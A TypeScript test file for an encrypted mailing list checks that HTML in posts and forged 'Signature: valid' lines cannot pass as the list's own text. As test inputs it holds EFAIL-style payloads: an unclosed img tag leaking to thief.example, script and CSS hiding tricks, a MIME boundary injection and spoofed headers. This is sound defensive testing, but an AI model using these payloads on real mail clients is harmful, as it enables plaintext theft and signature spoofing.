/**
 * What stands beside a post in the copies that the list makes: no HTML of the poster's reaches into it (EFAIL, USENIX Security
 * 2018, §4), and no words of the poster's pass for the list's own (Müller et al., "Johnny, you are fired!", §4.5).
 */
import assert from "node:assert/strict";
import { test } from "node:test";
import { fromUtf8 } from "#base";
import { decodeText, type Entity, parseMessage } from "#mime";
import { attackedList, UNSIGNED_TOO } from "../support/lists/attacked-list.ts";
import { entity, sealed } from "../support/programs/correspondents.ts";
import { protectedText } from "../support/lists/sealed-team.ts";

function partsOf(content: Uint8Array): readonly Entity[] {
  const parsed = parseMessage(content);
  assert.ok(parsed.ok);
  return parsed.value.children;
}

test("HTML is a part of its own behind the list's words, which are plain text", async (t) => {
  const { team, alice, post } = await attackedList(t, UNSIGNED_TOO);
  const boundaries = new Set<string>();
  for (const text of [
    '<img src="https://thief.example/?',
    "<style>*{display:none}</style><plaintext>",
    "<script>document.body.innerHTML=''</script><!--",
    "--=_0123456789abcdef0123456789abcdef\r\nContent-Type: text/html\r\n\r\n<p>",
  ]) {
    const html = entity(text, [["Content-Type", "text/html"]]);
    const { copy } = await post(alice.address, await sealed(team.openpgp, html, alice));
    assert.ok(copy !== null, text);
    const [block, content, ...others] = partsOf(copy.content);
    assert.equal(block?.contentType.essence, "text/plain");
    assert.equal(content?.contentType.essence, "text/html");
    assert.equal(others.length, 0, text);
    assert.doesNotMatch(fromUtf8(block.raw), /[<>]/);
    boundaries.add(/boundary="?([^";\r]+)/.exec(fromUtf8(copy.content))?.[1] ?? "");
  }
  assert.equal(boundaries.size, 4, "nobody can know them before");
});

test("words that look like the list's stand behind its own, in a part of their own", async (t) => {
  const { team, mallory, post } = await attackedList(t, UNSIGNED_TOO);
  const forged = [
    "Subject: You are fired",
    "From: alice@example.org",
    "Signature: valid, by alice@example.org",
    "Sealed on its way to the list: yes",
  ].join("\n");
  for (const signWith of [mallory, undefined]) {
    const inner = protectedText(mallory, `${forged}\n`, {
      subject: `x${"\u00a0".repeat(90)}Signature: valid`,
    });
    const { copy } = await post(mallory.address, await sealed(team.openpgp, inner, signWith));
    assert.ok(copy !== null);
    const [block, content] = partsOf(copy.content);
    assert.ok(block && content);
    const own = decodeText(block).split(/\r?\n/);
    assert.doesNotMatch(own.join("\n"), /alice/);
    const verdict =
      signWith === undefined ? /^Signature: none that counts/ : /^Signature: valid, by mallory@/;
    assert.deepEqual(own.filter((line) => line.startsWith("Signature:")).length, 1);
    assert.match(own.find((line) => line.startsWith("Signature:")) ?? "", verdict);
    assert.match(decodeText(content), /Signature: valid, by alice/);
  }
});
